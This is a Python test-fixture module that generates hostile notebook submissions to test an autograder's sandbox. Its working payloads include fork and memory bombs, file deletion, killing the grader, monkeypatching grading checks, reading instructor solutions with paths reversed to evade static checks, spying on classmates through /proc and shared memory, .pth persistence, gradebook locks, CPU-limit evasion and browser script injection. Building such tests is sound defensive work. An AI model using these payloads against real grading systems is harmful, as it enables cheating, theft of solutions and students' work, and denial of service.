"""Submission notebooks for class-run tests and the benchmark: ordinary ones and hostile ones.

Every notebook starts from the released lesson (what students receive). ``solved`` fills
each solution cell with the instructor's solution (markers removed); the ``HOSTILE`` kinds
(``build``, used by tests/test_grade_class.py) add code to one cell of it. The attack classes
of issue 15 (``ATTACKS``, ``build_attack``, used by tests/test_hostile.py) start from the
*blank* release instead and pay visibly when they work (see below). Paths the hostile code
aims at (course folders, repository, canary files) are passed in; nothing outside the test's
own folders is ever written (the repository and site-packages are only probed).
"""
from __future__ import annotations

import copy
import json
import re
from pathlib import Path

ASSIGNMENT = "04_sigmoid_vs_softmax"


def _src(cell) -> str:
    s = cell.get("source", "")
    return "".join(s) if isinstance(s, list) else s


def _strip_markers(source: str) -> str:
    return "\n".join(l for l in source.split("\n")
                     if l.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


def load(course: Path):
    release = json.loads((course / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
    source = json.loads((course / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_text())
    return release, source


def cell_index(nb, grade_id: str) -> int:
    for i, c in enumerate(nb["cells"]):
        if (c.get("metadata", {}).get("nbgrader") or {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def solved(release, source, only=None):
    """The release with the instructor's solution in every (or ``only`` these) solution cells."""
    nb = copy.deepcopy(release)
    sol = {(c["metadata"].get("nbgrader") or {}).get("grade_id"): _strip_markers(_src(c))
           for c in source["cells"] if (c.get("metadata", {}).get("nbgrader") or {}).get("solution")}
    for c in nb["cells"]:
        meta = c.get("metadata", {}).get("nbgrader") or {}
        if meta.get("solution") and meta.get("grade_id") in sol and (only is None or meta["grade_id"] in only):
            c["source"] = sol[meta["grade_id"]]
    return nb


def _edit(nb, grade_id, fn):
    c = nb["cells"][cell_index(nb, grade_id)]
    c["source"] = fn(_src(c))
    return nb


def _replace_def(source: str, name: str, body: str) -> str:
    """Replace the body of ``def name`` (top level) by ``body`` (already indented 4)."""
    lines = source.split("\n")
    start = next(i for i, l in enumerate(lines) if re.match(rf"def {name}\(", l))
    end = start + 1
    while end < len(lines) and (not lines[end].strip() or lines[end].startswith((" ", "\t"))):
        end += 1
    return "\n".join(lines[: start + 1] + body.split("\n") + lines[end:])


def build(kind: str, release, source, targets: dict):
    """One notebook (a dict), or ``bytes`` for files that are not notebooks."""
    nb = solved(release, source)
    if kind == "solved":
        return nb
    if kind == "blank":
        return copy.deepcopy(release)
    if kind == "partial":
        return solved(release, source, only={"l4_sigmoid", "l4_softmax"})
    if kind == "infinite_loop":
        return _edit(nb, "l4_sigmoid", lambda s: _replace_def(s, "sigmoid", "    while True:\n        pass"))
    if kind == "sleep_forever":
        return _edit(nb, "l4_log_sigmoid", lambda s: _replace_def(
            s, "log_sigmoid", "    import time\n    time.sleep(10 ** 6)"))
    if kind == "memory_bomb":
        return _edit(nb, "l4_softmax", lambda s: "hog = []\nwhile True:\n    hog.append(bytearray(50 * 2**20))\n" + s)
    if kind == "fork_bomb":
        return _edit(nb, "l4_softmax_cross_entropy", lambda s: (
            "import os, time\nkids = []\nfor _ in range(500):\n    pid = os.fork()\n"
            "    if pid == 0:\n        time.sleep(3600)\n        os._exit(0)\n    kids.append(pid)\n" + s))
    if kind == "os_exit":
        return _edit(nb, "l4_bce_with_logits", lambda s: s + "\nimport os\nos._exit(3)\n")
    if kind == "kill_kernel":
        return _edit(nb, "l4_bce_with_logits", lambda s: s + "\nimport os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n")
    if kind == "print_100mb":
        return _edit(nb, "l4_sigmoid", lambda s: s + "\nfor _ in range(100):\n    print('x' * 2**20)\n")
    if kind == "delete_files":
        # Only test-owned targets, by absolute path: the sandbox's own working copy, the test's
        # canary folder and the course. Never a relative path that climbs out of the working
        # copy: without a sandbox that would reach the grader's own temporary folder.
        code = (f"\nimport os, shutil\nfor p in [os.getcwd(), {str(targets['canary_dir'])!r},"
                f" {str(targets['course'])!r}]:\n    shutil.rmtree(p, ignore_errors=True)\n"
                f"for p in [{str(targets['canary'])!r}]:\n    try:\n        os.remove(p)\n    except OSError:\n        pass\n")
        return _edit(nb, "l4_log_sigmoid", lambda s: s + code)
    if kind == "snoop":
        course, repo = str(targets["course"]), str(targets["repo"])
        paths = [f"{course}/submitted/alice/{ASSIGNMENT}/{ASSIGNMENT}.ipynb",
                 f"{course}/source/{ASSIGNMENT}/{ASSIGNMENT}.ipynb", f"{course}/gradebook.db",
                 f"{course}/nbgrader_config.py", f"{repo}/autograder/hidden/lesson4.py",
                 f"{repo}/solutions/anime_genre/functions.py"]
        # paths written backwards, so that the judge's static check (which zeroes code naming
        # the reference package) does not see them: only the sandbox stands in the way
        code = ("import os as _os\n_leaks = []\n"
                f"for _p in {[p[::-1] for p in paths]!r}:\n    _p = _p[::-1]\n    try:\n"
                "        open(_p, 'rb').read(10)\n        _leaks.append(_p)\n"
                "    except OSError:\n        pass\n"
                "try:\n    __import__('erneg_emina'[::-1])\n    _leaks.append('import')\nexcept ImportError:\n    pass\n"
                # the parent is killed only if it is gone afterwards (in a pid namespace the
                # kernel's parent is its init, which ignores the signal without an error)
                "_ppid = _os.getppid()\ntry:\n    _os.kill(_ppid, 9)\nexcept OSError:\n    pass\n"
                "import time as _time\n_time.sleep(0.2)\nif _os.getppid() != _ppid:\n    _leaks.append('killed the grader')\n"
                "print('LEAKED' if _leaks else 'NOTHING LEAKED', _leaks)\n")
        # a leak makes sigmoid wrong, so a leak shows in the grade too
        return _edit(nb, "l4_sigmoid", lambda s: code + s + "\nif _leaks:\n    sigmoid = lambda x: 0 * x\n")
    if kind == "monkeypatch":
        code = ("import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
                "import autograder, autograder.core as _c\n_c.Checker._record = lambda self, name, ok, message='', fatal=False: "
                "self.results.append(_c.SubCheck(name, True)) or True\ncheck = lambda *a, **k: 2.0\n"
                "autograder.check = check\n_c.check = check\n")
        return _edit(nb, "l4_sigmoid", lambda s: code + _replace_def(s, "sigmoid", "    return 0 * x"))
    if kind == "not_json":
        return b"this is not a notebook {\n"
    if kind == "wrong_nbformat":
        old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "cells": [],
               "worksheets": [{"cells": []}]}
        return json.dumps(old).encode()
    if kind == "missing_metadata":
        broken = copy.deepcopy(nb)
        del broken["metadata"]
        return json.dumps(broken).encode()
    raise ValueError(kind)


def write(course: Path, student: str, content) -> Path:
    out = course / "submitted" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_bytes(content if isinstance(content, bytes) else json.dumps(content, indent=1).encode())
    return out


ORDINARY = {"alice": "solved", "bob": "blank", "carol": "partial"}
HOSTILE = ["infinite_loop", "sleep_forever", "memory_bomb", "fork_bomb", "os_exit", "kill_kernel",
           "print_100mb", "delete_files", "snoop", "monkeypatch", "not_json", "wrong_nbformat",
           "missing_metadata"]


# ============================================================================= attack classes
#
# One hostile submission per attack class of issue 15 (``ATTACKS``), each built from the
# *blank* released notebook, so that the grade it must not exceed is the blank notebook's (0).
# The attack code runs wherever the student's cells run: the sandboxed kernel and the judge's
# sandboxed worker. Each attack "pays" visibly if it works: a sub-attack that succeeds sets
# ``_WON[channel]``, and the solution cell of the exercise bound to that channel then defines
# the correct answer (the instructor's solution, as if the attacker had read it), so the grade
# shows it. In the kernel, every attack also prints one line ``HOSTILE {json}`` (what it found
# or did) which the tests read from the executed / autograded notebook.
#
# Everything the code aims at comes from ``cfg`` (see :func:`attack_config`): test-owned course
# folders, canaries and the repository (probed without writing). Paths and module names are
# stored reversed, so that the judge's static check (which zeroes code naming the reference
# package) does not stop the attack before the sandbox has to.

ATTACKS = {
    "copy_back": "a) functions write into their input arrays and module-level fixtures",
    "instructor_files": "b) read .git, solutions, hidden checks, tests, the course; import the reference",
    "classmates_1": "c) /proc scan, /tmp /var/tmp /dev/shm drops, SysV shm (writer and reader)",
    "classmates_2": "c) the same, a second student (reads what the first left)",
    "links": "d) links, FIFO, /dev/zero in the folder; the kernel replaces its files by FIFOs and links",
    "protocol": "e) forged, huge and deep frames on the worker's protocol fd; 100 MB results",
    "persist": "f) daemons, .pth in site-packages, patching checks, a lock on gradebook.db",
    "resources_out_cpu": "g) 200 MB of output (display metadata, traceback), CPU burn",
    "resources_fork_mem": "g) fork bomb, twice the memory limit across 16 processes",
    "metadata": "h) no schema_version, duplicated and unknown grade_ids, solution metadata on a raw cell, "
                "a tag with a comma, invalid cell ids, the hidden-test markers in the student's own cells",
    "browser": "i) scripts for the instructor's browser: HTML/JS/SVG/markdown outputs, markdown and raw cells",
    "cpu_dodge": "j) the per-call CPU timer's signal ignored, RLIMIT_CPU raised, then 14 s in one call",
    "cross_exercise": "k) one exercise's inputs kept (/tmp, /dev/shm, home, a pipe to the cells' process) "
                      "for the next exercise",
}

# which exercise pays for which sub-attack
EXERCISES = ["l4_sigmoid", "l4_log_sigmoid", "l4_softmax", "l4_softmax_cross_entropy", "l4_bce_with_logits"]
CHANNELS = {
    "instructor_files": {"files": "l4_sigmoid", "import": "l4_log_sigmoid", "pathfinder": "l4_softmax",
                         "editable": "l4_softmax_cross_entropy", "dirs": "l4_bce_with_logits"},
    "classmates_1": {"procs": "l4_sigmoid", "tmp": "l4_log_sigmoid", "shm": "l4_softmax",
                     "notebooks": "l4_softmax_cross_entropy", "wrote": "l4_bce_with_logits"},
    "links": {"canary": "l4_sigmoid"},
    "persist": {"write": "l4_sigmoid", "pth": "l4_log_sigmoid", "patch": "l4_softmax",
                "lock": "l4_softmax_cross_entropy"},
}
CHANNELS["classmates_2"] = CHANNELS["classmates_1"]
CHANNELS["cross_exercise"] = {"kept": "l4_log_sigmoid"}


def attack_config(*, token: str, repo, courses: list, alone, canary, canary_text: str, sites: list,
                  home: str | None = None, roots: list = ()) -> dict:
    """What the attacks aim at. ``courses``: every course folder of this class (the grade-class
    course, the plain-nbgrader copy); ``alone``: the folder of the grade-path copies; ``roots``:
    the test's own folders, the only places a classmates attack writes into when it finds them."""
    repo, alone = str(repo), str(alone)
    A = ASSIGNMENT
    files = [f"{repo}/.git/HEAD", f"{repo}/.git/config", f"{repo}/solutions/anime_genre/functions.py",
             f"{repo}/autograder/hidden/lesson4.py", f"{repo}/tests/grader_cases/lesson4.py",
             f"{repo}/autograder/course.py", "/opt/course/autograder/hidden/lesson4.py",
             str(canary), f"{alone}/alice/{A}.ipynb"]
    dirs = [repo, f"{repo}/.git", f"{repo}/solutions", alone, f"{alone}/alice"]
    victims = []
    for c in map(str, courses):
        files += [f"{c}/source/{A}/{A}.ipynb", f"{c}/gradebook.db", f"{c}/nbgrader_config.py",
                  f"{c}/submitted/alice/{A}/{A}.ipynb", f"{c}/autograded/alice/{A}/{A}.ipynb"]
        dirs += [c, f"{c}/source", f"{c}/submitted", f"{c}/autograded", f"{c}/submitted/alice/{A}"]
        victims += [f"{c}/gradebook.db", f"{c}/nbgrader_config.py", f"{c}/submitted/alice/{A}/{A}.ipynb",
                    f"{c}/autograded/alice/{A}/{A}.ipynb", f"{c}/autograded/h_persist/{A}/{A}.ipynb"]
    victims += [f"{alone}/alice/{A}.ipynb", str(canary)]
    patch = [f"{repo}/autograder/checks/lesson4.py", f"{repo}/autograder/core.py", f"{repo}/autograder/judge.py",
             "/opt/course/autograder/checks/lesson4.py", "/opt/course/autograder/core.py"]
    sites = list(map(str, sites))
    own_sites = []
    if home:       # the grading identity's user site: trusted grading processes load .pth files from it
        own_sites.append(user_site(home))
        sites += own_sites
    return {"token": token, "canary_text": canary_text, "canary": str(canary), "own_sites": own_sites,
            "roots": [str(r) for r in roots],
            "files": files, "dirs": dirs, "victims": victims, "patch": patch, "sites": sites,
            "gradebooks": [f"{c}/gradebook.db" for c in map(str, courses)],
            "modules": ["anime_genre", "anime_genre.functions", "autograder.hidden", "autograder.hidden.lesson4"],
            "pathfinder": [["anime_genre", f"{repo}/solutions"], ["hidden", f"{repo}/autograder"],
                           ["lesson4", f"{repo}/autograder/hidden"], ["lesson4", f"{repo}/tests/grader_cases"]],
            "shm_key": int(token[:7], 16) | 0x10000000}


def user_site(home) -> str:
    """The user site-packages folder Python uses for ``HOME=home``."""
    import sys
    return f"{home}/.local/lib/python3.{sys.version_info[1]}/site-packages"


def _rev(obj):
    """Every string of a JSON-able value reversed (undone by the attack's prelude)."""
    if isinstance(obj, str):
        return obj[::-1]
    if isinstance(obj, list):
        return [_rev(v) for v in obj]
    if isinstance(obj, dict):
        return {k: _rev(v) for k, v in obj.items()}
    return obj


_PRELUDE = r'''
import os as _os, sys as _sys, json as _json
def _unrev(v):
    if isinstance(v, str):
        return v[::-1]
    if isinstance(v, list):
        return [_unrev(x) for x in v]
    if isinstance(v, dict):
        return {k: _unrev(x) for k, x in v.items()}
    return v
_CFG = _unrev(_json.loads(%(cfg)r))
_SIDE = "kernel" if "ipykernel" in _sys.modules else "worker"
_WON = globals().get("_WON", {})
def _mark(kind, **info):
    print("HOSTILE " + _json.dumps({"kind": kind, "side": _SIDE, **info}, default=str)[:20000], flush=True)
'''

_PAYOFF = r'''
if globals().get("_WON", {}).get(%(channel)r):
    exec(%(src)r, globals())
'''

_INSTRUCTOR_FILES = r'''
_found = {"files": [], "dirs": [], "import": [], "pathfinder": [], "editable": []}
try:
    for _p in _CFG["files"]:
        try:
            with open(_p, "rb") as _f:
                _f.read(64)
            _found["files"].append(_p)
        except OSError:
            pass
    for _d in _CFG["dirs"]:
        try:
            # the sandbox makes the parents of the interpreter's folders (e.g. REPO/.venv/bin):
            # a listing leaks only when it shows anything else
            _extra = [n for n in _os.listdir(_d) if n not in (".venv", "venv", "bin", "lib", "lib64", "include", "share", "pyvenv.cfg")]
            if _extra:
                _found["dirs"].append(_d + ": " + ",".join(sorted(_extra)[:8]))
        except OSError:
            pass
    import importlib, importlib.util, importlib.machinery, glob, sysconfig
    for _m in _CFG["modules"]:
        try:
            importlib.import_module(_m)
            _found["import"].append(_m)
        except BaseException:
            pass
    for _name, _where in _CFG["pathfinder"]:
        try:
            _spec = importlib.machinery.PathFinder.find_spec(_name, [_where])
            if _spec is not None:
                _mod = importlib.util.module_from_spec(_spec)
                _spec.loader.exec_module(_mod)
                _found["pathfinder"].append(_where + "/" + _name)
        except BaseException:
            pass
    _sites = {p for p in _sys.path if isinstance(p, str)} | set(_CFG["sites"])
    _sites |= {sysconfig.get_paths()[k] for k in ("purelib", "platlib")}
    for _pre in {_sys.prefix, _sys.base_prefix}:
        _sites |= set(glob.glob(_pre + "/lib/python3*/site-packages"))
    _finders = sorted({f for s in _sites for f in glob.glob(_os.path.join(s, "__editable__*finder.py"))})
    _found["finders_seen"] = _finders
    for _fin in _finders:
        try:
            _ns = {"__name__": "hostile_finder"}
            with open(_fin) as _f:
                exec(_f.read(), _ns)
            _mapping = dict(_ns.get("MAPPING", {}))
        except BaseException:
            continue
        for _name, _path in _mapping.items():
            for _sub in ("", ".functions", ".hidden"):
                try:
                    _dir = _path + _sub.replace(".", "/")
                    _spec = importlib.util.spec_from_file_location(_name + _sub, _os.path.join(_dir, "__init__.py"),
                                                                   submodule_search_locations=[_dir])
                    if _spec is None and _sub:
                        _spec = importlib.util.spec_from_file_location(_name + _sub, _dir + ".py")
                    _mod = importlib.util.module_from_spec(_spec)
                    _spec.loader.exec_module(_mod)
                    _found["editable"].append(_name + _sub)
                except BaseException:
                    pass
except BaseException as _e:
    _found["error"] = repr(_e)[:300]
for _k in ("files", "dirs", "import", "pathfinder", "editable"):
    if _found[_k]:
        _WON[_k] = True
_mark("instructor_files", leaks={k: v for k, v in _found.items() if v and k in ("files", "dirs", "import", "pathfinder", "editable")},
      seen=_found.get("finders_seen"), error=_found.get("error"))
'''

_CLASSMATES = r'''
import uuid as _uuid, glob as _glob, ctypes as _ct
_me = _SIDE + "-" + _uuid.uuid4().hex[:12]
_found = {"procs": [], "tmp": [], "shm": [], "notebooks": [], "wrote": []}
_info = {}
try:
    # its own folders: the working copy, the folders its environment names (HOME, TMPDIR, IPython's,
    # Jupyter's...), the system's; anything else that exists and is named by a process is not its own
    _own = [_os.getcwd(), "/usr", "/proc", "/dev", "/etc", "/opt", "/bin", "/lib", "/sbin", _sys.prefix, _sys.base_prefix]
    _own += [v for v in _os.environ.values() if v.startswith("/")]
    _exact = {"/tmp", "/var/tmp", "/dev/shm", "/home", "/var", "/"}
    _paths, _pids = set(), []
    for _pid in _os.listdir("/proc"):
        if not _pid.isdigit() or int(_pid) == _os.getpid():
            continue
        _pids.append(_pid)
        for _what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                    _raw = _f.read(1 << 16)
            except OSError:
                continue
            for _tok in _raw.replace(b"=", b"\0").replace(b":", b"\0").split(b"\0"):
                _t = _tok.decode(errors="replace")
                if _t.startswith("/") and any(k in _t for k in ("ag-", "autograder", "submitted", "autograded", "student", ".ipynb", "tmp")):
                    _paths.add(_t.rstrip("/"))
    _info["pids_seen"] = len(_pids)
    for _p in sorted(_paths):
        if _p in _exact or any(_p == o or _p.startswith(o.rstrip("/") + "/") for o in _own):
            continue
        if _os.path.exists(_p):
            _found["procs"].append(_p)
            _d = _p if _os.path.isdir(_p) else _os.path.dirname(_p)
            if not any(_d.startswith(r.rstrip("/") + "/") for r in _CFG["roots"]):
                continue                    # written only where the test owns everything
            try:
                with open(_os.path.join(_d, "HOSTILE-was-here-" + _CFG["token"]), "w") as _f:
                    _f.write(_me)
                _found["wrote"].append(_d)
            except OSError:
                pass
    for _d in ("/tmp", "/var/tmp", "/dev/shm"):
        for _f in _glob.glob(f"{_d}/agh-{_CFG['token']}-*"):
            if not _f.endswith(_me):
                _found["tmp"].append(_f)
        try:
            with open(f"{_d}/agh-{_CFG['token']}-{_me}", "w") as _f:
                _f.write(_me)
        except OSError:
            pass
    _libc = _ct.CDLL(None, use_errno=True)
    _libc.shmat.restype = _ct.c_void_p
    _libc.shmat.argtypes = [_ct.c_int, _ct.c_void_p, _ct.c_int]
    _key = _CFG["shm_key"]
    _id = _libc.shmget(_key, 0, 0)
    if _id >= 0:
        _addr = _libc.shmat(_id, None, 0)
        if _addr not in (None, _ct.c_void_p(-1).value):
            _txt = _ct.string_at(_addr, 64).split(b"\0")[0].decode(errors="replace")
            if _txt and _txt != _me:
                _found["shm"].append(_txt)
    else:
        _id = _libc.shmget(_key, 4096, 0o1000 | 0o666)
        _addr = _libc.shmat(_id, None, 0) if _id >= 0 else None
    if _id >= 0 and _addr not in (None, _ct.c_void_p(-1).value):
        _ct.memmove(_addr, (_me + "\0").encode(), len(_me) + 1)
        _info["shm_written"] = True
    for _d in (".", "..", "../..", _os.path.expanduser("~")):
        for _nbf in _glob.glob(_os.path.join(_d, "*.ipynb")) + _glob.glob(_os.path.join(_d, "*", "*.ipynb")):
            try:
                with open(_nbf, encoding="utf-8", errors="replace") as _f:
                    _text = _f.read()
            except OSError:
                continue
            if "agh-" not in _text:          # not this attack's own notebook: a classmate's
                _found["notebooks"].append(_os.path.abspath(_nbf))
except BaseException as _e:
    _info["error"] = repr(_e)[:300]
for _k, _v in _found.items():
    if _v:
        _WON[_k] = True
_mark("classmates", me=_me, leaks={k: v[:20] for k, v in _found.items() if v}, **_info)
'''

_LINKS = r'''
import stat as _stat
_found = {"canary": []}
_did = []
try:
    _cwd = _os.getcwd()
    for _n in sorted(_os.listdir(_cwd)) + [_CFG["canary"]]:
        _p = _os.path.join(_cwd, _n)
        try:
            _fd = _os.open(_p, _os.O_RDONLY | _os.O_NONBLOCK)
            try:
                _data = _os.read(_fd, 4096)
            finally:
                _os.close(_fd)
        except OSError:
            continue
        if _CFG["canary_text"].encode() in _data:
            _found["canary"].append(_n)
    _did.append("listed:" + ",".join(sorted(_os.listdir(_cwd)))[:300])
    if _SIDE == "kernel":
        def _try(what, fn):
            try:
                fn()
                _did.append(what)
            except OSError as e:
                _did.append(what + " failed: " + e.strerror)
        with open("output.txt", "w") as _f:
            _f.write("x")
        _try("output.txt->fifo", lambda: (_os.unlink("output.txt"), _os.mkfifo("output.txt")))
        for _nbf in [n for n in _os.listdir(".") if n.endswith(".ipynb")]:
            _try(_nbf + "->fifo", lambda n=_nbf: (_os.unlink(n), _os.mkfifo(n)))
        _try("zero.ipynb->/dev/zero", lambda: _os.symlink("/dev/zero", "zero.ipynb"))
        _try("escape->canary", lambda: _os.symlink(_CFG["canary"], "escape.txt"))
        _try("root->/", lambda: _os.symlink("/", "root-link"))
        for _c in _CFG["dirs"]:
            _try("course-link", lambda c=_c: _os.symlink(c, "link-" + str(abs(hash(c)))))
        def _locked():
            _os.makedirs("locked/inner", exist_ok=True)
            with open("locked/inner/file", "w") as f:
                f.write("x")
            _os.chmod("locked/inner", 0)
            _os.chmod("locked", 0o500)
        _try("unremovable folder", _locked)
except BaseException as _e:
    _did.append("error " + repr(_e)[:200])
if _found["canary"]:
    _WON["canary"] = True
_mark("links", leaks={k: v for k, v in _found.items() if v}, did=_did)
'''

_PERSIST = r'''
import threading as _threading, time as _time, sqlite3 as _sqlite3, glob as _glob, sysconfig as _sysconfig
_found = {"write": [], "pth": [], "patch": [], "lock": []}
def _attempt(record):
    for _v in _CFG["victims"]:
        try:
            with open(_v, "r+b") as _f:
                _f.seek(0, 2)
                _f.write(("\nPERSISTED-" + _CFG["token"] + "\n").encode())
            if record:
                _found["write"].append(_v)
        except OSError:
            pass
    _held = []
    for _gb in _CFG["gradebooks"]:
        try:
            _con = _sqlite3.connect(f"file:{_gb}?mode=rw", uri=True, timeout=0.2, isolation_level=None)
            _con.execute("BEGIN EXCLUSIVE")
            _held.append(_con)
            if record:
                _found["lock"].append(_gb)
        except Exception:
            pass
    return _held
def _daemon():
    _keep = []
    for _ in range(240):                    # two minutes, twice a second
        try:
            _keep += _attempt(False)
        except BaseException:
            pass
        _time.sleep(0.5)
try:
    _attempt(True)
    _sites = set(_CFG["sites"]) | {p for p in _sys.path if isinstance(p, str) and p.endswith("site-packages")}
    _sites |= {_sysconfig.get_paths()[k] for k in ("purelib", "platlib")}
    for _sp in sorted(_sites):
        if _sp in _CFG["own_sites"]:        # the grading identity's user site (test-owned): a real drop
            try:
                _fd = _os.open(_os.path.join(_sp, "hostile-" + _CFG["token"] + ".pth"), _os.O_WRONLY | _os.O_CREAT | _os.O_EXCL, 0o644)
                _os.write(_fd, b"# hostile\n")
                _os.close(_fd)
                _found["pth"].append(_sp)
            except OSError:
                pass
        elif _os.path.isdir(_sp) and _os.access(_sp, _os.W_OK | _os.X_OK):   # the environment's: a probe
            _found["pth"].append(_sp)
    _patch = list(_CFG["patch"])
    if _SIDE == "kernel":
        try:
            import autograder.checks.lesson4 as _l4
            _patch.append(_l4.__file__)
        except BaseException:
            pass
    for _p in _patch:
        try:                                # opened for writing, nothing written: a probe
            _os.close(_os.open(_p, _os.O_WRONLY | _os.O_APPEND))
            _found["patch"].append(_p)
        except OSError:
            pass
    _pid = _os.fork()                       # a daemon: double fork, new session
    if _pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _daemon()
        finally:
            _os._exit(0)
    _os.waitpid(_pid, 0)
    _threading.Thread(target=_daemon, daemon=True).start()
except BaseException as _e:
    _found["error"] = [repr(_e)[:300]]
for _k in ("write", "pth", "patch", "lock"):
    if _found[_k]:
        _WON[_k] = True
_mark("persist", leaks={k: v for k, v in _found.items() if v})
'''

# g) 200 MB of output in three forms, each in a cell of its own (on the grade path a cell that
# times out stops the execution: the fastest come first)
_TRACEBACK_FLOOD = r'''
if _SIDE == "kernel":
    _mark("output", traceback_mb=80)
    raise RuntimeError("t" * (80 << 20))
'''

_DISPLAY_FLOOD = r'''
if _SIDE == "kernel":
    _mark("output", display_metadata_mb=80)
    from IPython.display import display as _display
    _display({"text/plain": "junk"}, raw=True, metadata={"junk": "m" * (80 << 20)})
'''

_STREAM_FLOOD = r'''
if _SIDE == "kernel":
    _mark("output", stream_mb=40)
    for _i in range(40):
        print("x" * (1 << 20))
'''

_CPU_BURN = r'''
import time as _time
_kid = _os.fork()
if _kid == 0:                               # a child left behind: it must end with its sandbox
    _time.sleep(600)
    _os._exit(0)
_mark("cpu", child=_kid)
while True:                                 # burns until the cell's time limit stops it
    pass
'''

# the end of the fork and memory attacks: the children they made do not outlive them
_KILL_KIDS = r'''
for _pid in _kids:
    try:
        _os.kill(_pid, _signal.SIGKILL)
        _os.waitpid(_pid, 0)
    except OSError:
        pass
'''

_FORK_BOMB = r'''
import time as _time, signal as _signal
_kids, _why = [], ""
for _i in range(2000):
    try:
        _pid = _os.fork()
    except OSError as _e:
        _why = repr(_e)[:100]
        break
    if _pid == 0:
        _time.sleep(120)
        _os._exit(0)
    _kids.append(_pid)
_mark("fork", forked=len(_kids), stopped=_why)
'''+_KILL_KIDS

_MEMORY = r'''
import time as _time, select as _select, signal as _signal
def _meminfo_mb(key):
    with open("/proc/meminfo") as f:
        for line in f:
            if line.startswith(key + ":"):
                return int(line.split()[1]) // 1024
    return 0
# never push the machine into swapping or into dropping its page cache: the same attack runs on
# three paths for two identities at once, beside the other tests (an ordinary user's sandbox has
# no memory cgroup, so its 16 processes may each hold up to their own limit)
_floor = max(4096, _meminfo_mb("MemTotal") // 2)
# The attack ends well inside the cell timeout whatever the machine's load: first touches of
# fresh memory can be slow on a busy virtual machine (seen: 2 GiB in 30 s), and an attack cut
# by the timeout proves nothing. Each child asks for twice the per-process limit in all (16
# children: about twice the limit each sandbox is given) in four steps.
import resource as _resource
_limit = _resource.getrlimit(_resource.RLIMIT_AS)[0]
_chunk_mb = 64 if _limit == _resource.RLIM_INFINITY else max(8, (_limit >> 20) // 32)
_stop = _time.monotonic() + 15
_r, _w = _os.pipe()
_kids = []
for _i in range(16):                       # 16 x 4 chunks = twice the per-process limit
    try:
        _pid = _os.fork()
    except OSError:
        break
    if _pid == 0:
        _os.close(_r)
        _held = []
        try:
            for _step in range(4):
                if _meminfo_mb("MemAvailable") < _floor or _time.monotonic() > _stop:
                    break
                _held.append(bytearray(b"\x01") * (_chunk_mb << 20))     # every page written
                _os.write(_w, f"{_os.getpid()} {_chunk_mb * len(_held)}\n".encode())
        except MemoryError:
            pass
        _os.write(_w, f"{_os.getpid()} done\n".encode())
        _time.sleep(120)
        _os._exit(0)
    _kids.append(_pid)
_os.close(_w)
_held, _done, _peak, _buf = {}, set(), 0, b""
_end = _stop + 5
while len(_done) < len(_kids) and _time.monotonic() < _end:
    _ready, _, _ = _select.select([_r], [], [], 0.5)
    if _ready:
        _chunk = _os.read(_r, 65536)
        _buf += _chunk
        while b"\n" in _buf:
            _line, _buf = _buf.split(b"\n", 1)
            _pid_s, _v = _line.decode().split()
            if _v == "done":
                _done.add(int(_pid_s))
            else:
                _held[int(_pid_s)] = int(_v)
    for _pid in _kids:
        if _pid in _done:
            continue
        try:
            if _os.waitpid(_pid, _os.WNOHANG)[0] == _pid:
                _done.add(_pid)
                _held[_pid] = 0             # killed: its memory is free again
        except ChildProcessError:
            _done.add(_pid)
            _held[_pid] = 0
    _total = sum(_held.values())
    if _total > _peak:
        _peak = _total
        _mark("memory", peak_mb=_peak, children=len(_kids))
# The running peak above can count a child twice: one killed for memory may not be reaped yet
# when another reports what it took in its place. Once every child is done or dead, those still
# alive hold what they reported, all at once (they sleep with every page written): that sum is
# what the sandbox let them hold together.
_time.sleep(0.5)
for _pid in _kids:
    try:
        if _os.waitpid(_pid, _os.WNOHANG)[0] == _pid:
            _held[_pid] = 0
    except ChildProcessError:
        _held[_pid] = 0
_mark("memory", peak_mb=_peak, children=len(_kids), final=True, settled_mb=sum(_held.values()),
      alive=sum(1 for v in _held.values() if v), asked_mb=16 * 4 * _chunk_mb, complete=len(_done) == len(_kids))
'''+_KILL_KIDS

# j) the judge's CPU budgets disarmed from inside: the per-call timer's signal ignored and the
# exercise's RLIMIT_CPU raised to its hard limit, then a correct sigmoid that spends more than
# the suite's 10 s per call (plus the judge's 2 s grace) in its first call. It earns its points
# only if the worker's own timers are all that stands in its way.
_CPU_DODGE = r'''
import signal as _signal, resource as _resource, time as _time
_signal.signal(_signal.SIGPROF, _signal.SIG_IGN)
_slow = [_SIDE == "worker"]
def sigmoid(x):
    if _slow[0]:
        _slow[0] = False
        try:
            _resource.setrlimit(_resource.RLIMIT_CPU, (_resource.RLIM_INFINITY,) * 2)
        except (ValueError, OSError):
            _h = _resource.getrlimit(_resource.RLIMIT_CPU)[1]
            _resource.setrlimit(_resource.RLIMIT_CPU, (_h, _h))
        _t = _time.process_time()
        while _time.process_time() - _t < 14:
            pass
    return _honest_sigmoid(x)
'''

# k) what one exercise's code saw, kept for the next exercise's: sigmoid (wrong on purpose, it
# earns nothing) writes a note of each input it is given, hidden checks' included, into /tmp,
# /dev/shm, the home and working folders, and into a pipe read by a thread of the process that
# ran the cells; log_sigmoid's cell then looks for them. Found in the judge's worker, they pay
# (a student could echo them in a later exercise's visible message).
_KEEP_SEEN = r'''
import threading as _threading
_seen = []
_seen_r, _seen_w = _os.pipe()
def _collect():
    while True:
        _d = _os.read(_seen_r, 65536)
        if not _d:
            return
        _seen.append(_d)
_threading.Thread(target=_collect, daemon=True).start()
_drops = ["/tmp/agx-seen", "/dev/shm/agx-seen", _os.path.expanduser("~/agx-seen"), "agx-seen"]
def sigmoid(x):
    _note = (repr(getattr(x, "shape", None)) + ";").encode()
    for _p in _drops:
        try:
            with open(_p, "ab") as _f:
                _f.write(_note)
        except OSError:
            pass
    try:
        _os.write(_seen_w, _note)
    except OSError:
        pass
    return 0 * np.asarray(x, dtype=float)
'''

_FIND_SEEN = r'''
